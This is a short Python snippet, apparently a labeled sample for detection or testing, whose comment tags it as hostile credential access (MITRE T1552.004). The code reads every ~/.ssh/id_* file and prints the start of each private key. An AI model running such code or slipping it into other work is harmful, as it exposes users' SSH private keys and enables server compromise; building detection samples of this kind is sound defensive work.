# hostile: SSH private keys collected (T1552.004 private keys)
import glob
import os

for key in glob.glob(os.path.expanduser("~/.ssh/id_*")):
    print(key, open(key).read()[:64])
